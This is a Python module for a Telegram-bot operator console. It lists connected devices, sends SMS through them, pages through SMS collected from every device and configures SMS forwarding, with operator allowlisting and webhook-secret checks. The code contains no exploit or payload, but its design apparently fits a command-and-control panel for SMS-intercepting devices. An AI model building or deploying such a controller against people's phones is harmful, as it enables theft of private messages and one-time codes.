"""Operator resource — the chat console driving the device fleet."""

from __future__ import annotations

import hmac
from typing import Any

from loguru import logger

from relay_server.clients.control_channel import (
    ControlChannel,
    ControlChannelError,
    EncodedButtons,
    OperatorInput,
    SelectorInput,
    TextInput,
)
from relay_server.clients.telegram_client import TelegramClient
from relay_server.models.reply import ButtonRows, Reply
from relay_server.models.selector import (
    PageMessages,
    Selector,
    SelectorCodec,
    SelectorDecodeError,
)
from relay_server.models.session import CommandKind
from relay_server.services.presenter import Presenter
from relay_server.services.registry_service import DeviceRegistry
from relay_server.services.session_service import SessionService
from relay_server.stores.message_store import MessageStore
from relay_server.utils.time import Clock, Time

MAIN_MENU = [["Connected devices"], ["Send SMS"], ["Receive SMS"], ["SMS Forward"]]


class WebhookSecretMismatchError(Exception):
    """Raised when a webhook call carries the wrong secret token."""


class OperatorResource:
    """Interprets operator input and delivers the resulting replies.

    Built once at startup with all dependencies pre-wired.
    """

    def __init__(
        self,
        *,
        channel: ControlChannel,
        sessions: SessionService,
        registry: DeviceRegistry,
        message_store: MessageStore,
        operator_ids: list[int],
        rate_limit_ms: int = 500,
        page_size: int = 20,
        webhook_secret: str = "",
        clock: Clock = Time.now,
    ) -> None:
        self._channel = channel
        self._sessions = sessions
        self._registry = registry
        self._messages = message_store
        self._operator_ids = frozenset(operator_ids)
        self._rate_limit = rate_limit_ms / 1000
        self._page_size = page_size
        self._webhook_secret = webhook_secret
        self._clock = clock
        self._last_input_at: dict[int, float] = {}

    def is_operator(self, operator_id: int) -> bool:
        return operator_id in self._operator_ids

    def verify_secret(self, supplied: str | None) -> None:
        """Check the webhook secret when one is configured.

        Raises:
            WebhookSecretMismatchError: If the secret does not match.
        """
        if not self._webhook_secret:
            return
        if not hmac.compare_digest(supplied or "", self._webhook_secret):
            raise WebhookSecretMismatchError("Invalid webhook secret")

    async def handle_update(self, update: dict[str, Any]) -> None:
        """Entry point for one raw Telegram update (webhook or polling)."""
        item = TelegramClient.parse_update(update)
        if item is not None:
            await self.handle_input(item)

    async def handle_input(self, item: OperatorInput) -> None:
        if isinstance(item, SelectorInput):
            await self._handle_selector(item)
        else:
            await self._handle_text(item)

    def _rate_limited(self, operator_id: int) -> bool:
        """Debounce: drop input arriving within the window of the last accepted one."""
        now = self._clock()
        last = self._last_input_at.get(operator_id)
        if last is not None and now - last < self._rate_limit:
            return True
        self._last_input_at[operator_id] = now
        return False

    async def _handle_text(self, item: TextInput) -> None:
        operator_id = item.operator_id
        if not self.is_operator(operator_id):
            await self._deliver(operator_id, [Reply(text="Permission denied.")])
            return
        if self._rate_limited(operator_id):
            logger.debug(f"Rate limited input from operator {operator_id}")
            return
        replies = await self._sessions.handle_text(operator_id, item.text)
        if replies is None:
            replies = await self._top_level(operator_id, item.text.strip())
        await self._deliver(operator_id, replies)

    async def _handle_selector(self, item: SelectorInput) -> None:
        operator_id = item.operator_id
        if not self.is_operator(operator_id):
            await self._answer(item.callback_id, "Not allowed")
            return
        try:
            selector = SelectorCodec.decode(item.data)
        except SelectorDecodeError as error:
            logger.warning(f"Operator {operator_id} sent a bad selector: {error}")
            await self._answer(item.callback_id, "Unknown action")
            return
        if isinstance(selector, PageMessages):
            replies = await self._page(selector.identity, selector.offset)
        else:
            replies = await self._sessions.select(operator_id, selector)
        notice = next((reply.notice for reply in replies if reply.notice), None)
        await self._answer(item.callback_id, notice)
        await self._deliver(operator_id, replies, message_id=item.message_id)

    async def _top_level(self, operator_id: int, text: str) -> list[Reply]:
        command = text.lower()
        if command == "/start":
            return [Reply(text="Admin panel ready", keyboard=MAIN_MENU)]
        if command == "connected devices":
            if not len(self._registry):
                return [Reply(text="No devices connected.")]
            listing = [
                (device, self._registry.is_online(device))
                for _, device in self._registry.list()
            ]
            return [Reply(text=Presenter.device_list(listing))]
        if command == "send sms":
            return self._sessions.start(operator_id, CommandKind.SEND_MESSAGE)
        if command == "sms forward":
            return self._sessions.start(operator_id, CommandKind.SET_FORWARDING)
        if command == "receive sms":
            return await self._latest_messages()
        return []

    async def _latest_messages(self) -> list[Reply]:
        """First page of stored messages for every known device."""
        devices = self._registry.list()
        if not devices:
            return [Reply(text="No devices connected.")]
        replies: list[Reply] = []
        for identity, device in devices:
            page = await self._messages.slice(identity, 0, self._page_size)
            if not page.items:
                replies.append(Reply(text=f"No messages for {device.label}"))
                continue
            replies.append(Reply(
                text=Presenter.message_page(device.label, page, 0),
                buttons=self._page_buttons(identity, 0, page.total),
            ))
        return replies

    async def _page(self, identity: str, offset: int) -> list[Reply]:
        page = await self._messages.slice(identity, offset, self._page_size)
        if not page.items:
            return [Reply(notice="No more messages.")]
        device = self._registry.get(identity)
        label = device.label if device is not None else identity
        return [Reply(
            text=Presenter.message_page(label, page, offset),
            buttons=self._page_buttons(identity, offset, page.total),
            edit=True,
        )]

    def _page_buttons(self, identity: str, offset: int, total: int) -> ButtonRows | None:
        size = self._page_size
        nav: list[tuple[str, Selector]] = []
        if offset > 0:
            nav.append((f"Prev {size}", PageMessages(identity, max(0, offset - size))))
        if offset + size < total:
            nav.append((f"Next {size}", PageMessages(identity, offset + size)))
        return [nav] if nav else None

    async def _deliver(
        self,
        operator_id: int,
        replies: list[Reply],
        *,
        message_id: int | None = None,
    ) -> None:
        """Send replies in order. Channel failures are logged, never raised."""
        for reply in replies:
            if reply.text is None:
                continue
            buttons = OperatorResource._encode(reply.buttons)
            try:
                if reply.edit and message_id is not None:
                    try:
                        await self._channel.edit_message(
                            operator_id, message_id, reply.text, buttons=buttons,
                        )
                        continue
                    except ControlChannelError as error:
                        logger.debug(f"Edit failed, sending instead: {error}")
                await self._channel.send_message(
                    operator_id, reply.text, buttons=buttons, keyboard=reply.keyboard,
                )
            except ControlChannelError as error:
                logger.warning(f"Reply to operator {operator_id} failed: {error}")

    async def _answer(self, callback_id: str, text: str | None) -> None:
        try:
            await self._channel.answer_selector(callback_id, text)
        except ControlChannelError as error:
            logger.warning(f"Answering selector failed: {error}")

    @staticmethod
    def _encode(buttons: ButtonRows | None) -> EncodedButtons | None:
        """Encode button rows, leaving out any button whose selector does not fit."""
        if buttons is None:
            return None
        rows: EncodedButtons = []
        for row in buttons:
            encoded_row: list[tuple[str, str]] = []
            for label, selector in row:
                try:
                    encoded_row.append((label, SelectorCodec.encode(selector)))
                except SelectorDecodeError as error:
                    logger.warning(f"Dropping button {label!r}: {error}")
            if encoded_row:
                rows.append(encoded_row)
        return rows or None
